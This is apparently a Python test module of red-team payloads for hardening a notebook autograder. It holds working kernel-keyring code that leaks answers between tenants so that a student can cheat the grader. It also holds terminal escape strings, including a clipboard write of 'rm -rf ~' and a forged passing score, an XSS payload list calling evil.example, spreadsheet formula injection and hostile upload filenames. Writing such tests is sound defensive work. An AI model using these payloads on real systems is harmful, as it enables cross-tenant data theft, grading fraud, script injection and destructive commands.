"""Round 2 red-team payloads: kernel state shared between tenants, and student strings that reach
the instructor's terminal, files, CSV, Markdown and formgrader's HTML.

Same rules as :mod:`tests.attacks.payloads`: every payload is a self-contained top-level
function (imports inside) whose source is copied into a student module; helpers whose names
start with ``_`` are copied along when a payload names them.
"""

from __future__ import annotations

from typing import Any

#: Terminal escapes a student would like on the instructor's screen: set the window title,
#: write the clipboard (OSC 52), erase the line and move up, and a bidi override.
ESCAPES = "\x1b]0;PWNED-TITLE\x07\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2K\x1b[1A\u202eKCATTA"


# --------------------------------------------------------------------------------------------
# Kernel keyrings: keys one tenant leaves for another
# --------------------------------------------------------------------------------------------


def _key_tag():
    """What every key and keyring of these payloads is named by (a function, so that it travels
    with the payloads that use it)."""
    return "r2collude"


KEY_TAG = _key_tag()


def _key_syscall(name, *args):
    """add_key / keyctl through ctypes (the C library has no wrapper): the result or -errno."""
    import ctypes
    import os

    numbers = {"x86_64": {"add_key": 248, "keyctl": 250}, "aarch64": {"add_key": 217, "keyctl": 219}}
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    converted = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    result = libc.syscall(ctypes.c_long(numbers[os.uname().machine][name]), *converted)
    return result if result >= 0 else -ctypes.get_errno()


def _add_key(description, payload, keyring):
    """A "user" key readable by every uid, in ``keyring``; its id or -errno."""
    key = _key_syscall("add_key", b"user", description.encode(), payload, len(payload), keyring)
    if key > 0:
        _key_syscall("keyctl", 5, key, 0x3F3F3F3F)  # KEYCTL_SETPERM: everything for everyone
    return key


def plant_keys(payload=b"PLANTED"):
    """Leave ``payload`` in every keyring a tenant can reach, readable by anyone: thread,
    process, (inherited) session, user, user-session and persistent keyrings, and a named
    keyring that any uid may join, linked from the persistent and the inherited session keyring
    so that it outlives the tenant. Returns {keyring: key id or -errno}."""
    placed = {}
    inherited = _key_syscall("keyctl", 0, -3, 0)  # KEYCTL_GET_KEYRING_ID of the session keyring
    for name, keyring in (
        ("thread", -1),
        ("process", -2),
        ("session", -3),
        ("user", -4),
        ("user-session", -5),
    ):
        placed[name] = _add_key(f"{_key_tag()}-{name}", payload, keyring)
    persistent = _key_syscall("keyctl", 22, -1, -1)  # KEYCTL_GET_PERSISTENT into the thread keyring
    placed["persistent"] = (
        _add_key(f"{_key_tag()}-persistent", payload, persistent) if persistent > 0 else persistent
    )
    named = _key_syscall("keyctl", 1, f"{_key_tag()}-named".encode())  # KEYCTL_JOIN_SESSION_KEYRING
    if named > 0:
        _key_syscall("keyctl", 5, named, 0x3F3F3F3F)
        for keyring in (persistent, inherited, -4):
            if keyring > 0 or keyring == -4:
                _key_syscall("keyctl", 8, named, keyring)  # KEYCTL_LINK the named keyring there
        placed["named"] = _add_key(f"{_key_tag()}-in-named", payload, named)
    else:
        placed["named"] = named
    return placed


def find_keys():
    """Every key of :func:`_key_tag` this process can find and read: listed in /proc/keys,
    searched for in each of its keyrings, or in the named keyring joined by name.
    Returns {description: payload} of what it could read."""
    import ctypes

    found = {}

    def read(key):
        buffer = ctypes.create_string_buffer(4096)
        size = _key_syscall("keyctl", 11, key, buffer, 4096)  # KEYCTL_READ
        return buffer.raw[: min(size, 4096)] if size >= 0 else None

    candidates = set()
    try:
        with open("/proc/keys") as handle:
            for line in handle:
                if _key_tag() in line:
                    candidates.add(int(line.split()[0], 16))
    except OSError:
        pass
    persistent = _key_syscall("keyctl", 22, -1, -1)
    named = _key_syscall("keyctl", 1, f"{_key_tag()}-named".encode())
    rings = [-1, -2, -3, -4, -5] + [ring for ring in (persistent, named) if ring > 0]
    suffixes = ("thread", "process", "session", "user", "user-session", "persistent", "in-named")
    for ring in rings:
        for suffix in suffixes:
            key = _key_syscall("keyctl", 10, ring, b"user", f"{_key_tag()}-{suffix}".encode(), 0)  # SEARCH
            if key > 0:
                candidates.add(key)
    for key in candidates:
        data = read(key)
        if data is not None and data.startswith(b"PLANTED"):
            found[f"key {key:x}"] = data.decode(errors="replace")
    return found


def _input_key(args):
    """A description naming one call's inputs: the same for every student graded on them."""
    import hashlib

    digest = hashlib.sha256()
    for name in ("x", "w", "b"):
        digest.update(args[name].double().numpy().tobytes())
    return f"{_key_tag()}-lf-{digest.hexdigest()[:24]}"


def keyring_answer_donor():
    """At import: wrap the (honest) Linear.forward so that it also leaves each answer where any
    later tenant can read it: in a named keyring linked from this uid's persistent keyring (kept
    for days) and from the inherited session keyring."""
    honest = Linear.forward  # noqa: F821 (the student module's own class)

    def forward(x, w, b):
        out, cache = honest(x, w, b)
        _leave_answer({"x": x, "w": w, "b": b}, out)
        return out, cache

    Linear.forward = staticmethod(forward)  # noqa: F821


def _leave_answer(args, out):
    import struct

    header = struct.pack("<4sI", b"PLAN", out.dim()) + struct.pack(f"<{out.dim()}I", *out.shape)
    payload = b"PLANTED" + header + out.double().numpy().tobytes()
    if len(payload) >= 16000:
        return
    inherited = _key_syscall("keyctl", 0, -3, 0)
    persistent = _key_syscall("keyctl", 22, -1, -1)
    named = _key_syscall("keyctl", 1, f"{_key_tag()}-named".encode())
    if named > 0:
        _key_syscall("keyctl", 5, named, 0x3F3F3F3F)
        for keyring in (persistent, inherited):
            if keyring > 0:
                _key_syscall("keyctl", 8, named, keyring)
        _add_key(_input_key(args), payload, named)


def keyring_answer_taker(args):
    """A Linear.forward with no implementation: it returns whatever an earlier student left in
    the kernel's keyrings for these inputs (or garbage when nothing is there)."""
    import ctypes
    import struct

    import torch

    wanted = _input_key(args)
    named = _key_syscall("keyctl", 1, f"{_key_tag()}-named".encode())
    key = _key_syscall("keyctl", 10, named, b"user", wanted.encode(), 0) if named > 0 else -1
    if key <= 0:
        try:
            with open("/proc/keys") as handle:
                key = next((int(line.split()[0], 16) for line in handle if wanted in line), -1)
        except OSError:
            key = -1
    if key > 0:
        buffer = ctypes.create_string_buffer(16384)
        size = _key_syscall("keyctl", 11, key, buffer, 16384)
        data = buffer.raw[: max(size, 0)]
        if data.startswith(b"PLANTEDPLAN"):
            dims = struct.unpack("<I", data[11:15])[0]
            shape = struct.unpack(f"<{dims}I", data[15 : 15 + 4 * dims])
            values = torch.frombuffer(bytearray(data[15 + 4 * dims :]), dtype=torch.float64)
            return values.reshape(shape).to(args["x"].dtype), (args["x"], args["w"], args["b"])
    x, w = args["x"], args["w"]
    return torch.full((x.shape[0], w.shape[1]), 12345.0, dtype=x.dtype), None


# --------------------------------------------------------------------------------------------
# Student strings: terminal escapes, control characters, markup
# --------------------------------------------------------------------------------------------


def escape_sequence_error(args):
    """Fail with an exception whose class name and message carry terminal escapes and markup."""
    name = "Oops\x1b]0;PWNED-TITLE\x07Error"
    error = type(name, (Exception,), {})
    raise error(
        "\x1b]52;c;cm0gLXJmIH4K\x07\x1b[2K\x1b[1A\r- PASS forged (100/100)\n# Score 100/100 "
        "<img src=x onerror=alert('ESCAPE')> [x](javascript:alert('ESCAPE')) =HYPERLINK(\"http://x\")"
    )


XSS_MARKDOWN = "\n\n".join(
    [
        "<script>alert('XSS-script')</script>",
        "<img src=x onerror=\"alert('XSS-onerror')\">",
        "<svg onload=\"alert('XSS-svg')\"><circle r=5></circle></svg>",
        "<details open ontoggle=\"alert('XSS-toggle')\"><summary>s</summary>x</details>",
        "[click me](javascript:alert('XSS-mdlink'))",
        "<a href=\"javascript:alert('XSS-alink')\">click</a>",
        "[ref link][r]\n\n[r]: javascript:alert('XSS-reflink')",
        "<a href=\"jav&#x09;ascript:alert('XSS-entity')\">entity</a>",
        '<iframe src="https://evil.example/XSS-iframe"></iframe>',
        "<style>body { display: none } /* XSS-style */</style>",
        '<meta http-equiv="refresh" content="0;url=https://evil.example/XSS-meta">',
        "```mermaid\n<img src=x onerror=\"alert('XSS-mermaid')\">\n```",
        '<form action="https://evil.example/XSS-form"><input name=q><button>go</button></form>',
        '<object data="https://evil.example/XSS-object"></object><embed src="https://evil.example/XSS-embed">',
        '<base href="https://evil.example/XSS-base/">',
        "</div></div><script>alert('XSS-breakout')</script>",
    ]
)
#: A PNG output that is not base64 and tries to close the ``<img src="data:...">`` attribute it is
#: pasted in (the classic template escapes it; the grader keeps canonical base64 only).
ODD_PNG = 'iVBORw0KGgoAAAANSUhEUg==" onerror="alert(\'XSS-png\')" x="'
XSS_MARKERS = tuple(f"XSS-{m}" for m in (
    "script", "onerror", "svg", "toggle", "mdlink", "alink", "reflink", "entity", "iframe", "style",
    "meta", "mermaid", "form", "object", "embed", "base", "breakout", "png",
))  # fmt: skip


def xss_notebook(notebook: dict[str, Any], params: Any) -> dict[str, Any]:
    """Every markdown cell a student may write (the answers, and new cells) full of live markup,
    plus a raw HTML cell and a code cell with HTML/SVG/JS outputs and a PNG output that is not
    base64 (stored, and displayed again when the notebook runs)."""
    answers = [c for c in notebook["cells"] if c["cell_type"] == "markdown" and _is_answer(c)]
    for cell in answers:
        cell["source"] = "My answer.\n\n" + XSS_MARKDOWN
    notebook["cells"].append(
        {"cell_type": "markdown", "metadata": {}, "source": XSS_MARKDOWN, "id": "xss-new"}
    )
    notebook["cells"].append(
        {
            "cell_type": "raw",
            "metadata": {"raw_mimetype": "text/html"},
            "source": XSS_MARKDOWN,
            "id": "xss-raw",
        }
    )
    notebook["cells"].append(
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": 1,
            "id": "xss-output",
            "source": (
                "from IPython.display import display\n"
                f"display({{'image/png': {ODD_PNG!r}, 'text/plain': 'png'}}, raw=True)"
            ),
            "outputs": [
                {
                    "output_type": "display_data",
                    "metadata": {},
                    "data": {
                        "text/html": XSS_MARKDOWN,
                        "image/svg+xml": "<svg onload=\"alert('XSS-svg')\"></svg>",
                        "application/javascript": "alert('XSS-script')",
                        "image/png": ODD_PNG,
                        "text/plain": "1",
                    },
                }
            ],
        }
    )
    return notebook


def _is_answer(cell: dict[str, Any]) -> bool:
    meta = cell.get("metadata", {}).get("nbgrader", {})
    return bool(meta.get("solution")) or bool(meta.get("grade"))


def escapes_notebook(notebook: dict[str, Any], params: Any) -> dict[str, Any]:
    """A first cell that writes terminal escapes to the notebook runner's stderr (the kernel
    shares it) and then kills the runner, so that its last stderr line becomes the problem."""
    code = (
        "import os, signal\n"
        f"os.write(2, {ESCAPES.encode()!r} + b'PWNED-STDERR\\n')\n"
        "os.kill(os.getppid(), signal.SIGKILL)\n"
    )
    cell = {
        "cell_type": "code",
        "metadata": {},
        "execution_count": None,
        "id": "escapes",
        "source": code,
        "outputs": [],
    }
    notebook["cells"].insert(0, cell)
    return notebook


# --------------------------------------------------------------------------------------------
# Upload names
# --------------------------------------------------------------------------------------------

#: Upload names an LMS export or a student could produce; none is a student id.
BAD_UPLOAD_NAMES = (
    f"evil{ESCAPES}name.zip",
    "line\nbreak\rname.zip",
    '=HYPERLINK("https:evil.example","x").zip',
    "-rf --no-preserve-root.zip",
    ".hidden.zip",
    "space name.zip",
    "ünïcødé.zip",
    "n" * 240 + ".zip",
    "folder\x1b[2Kname",
)
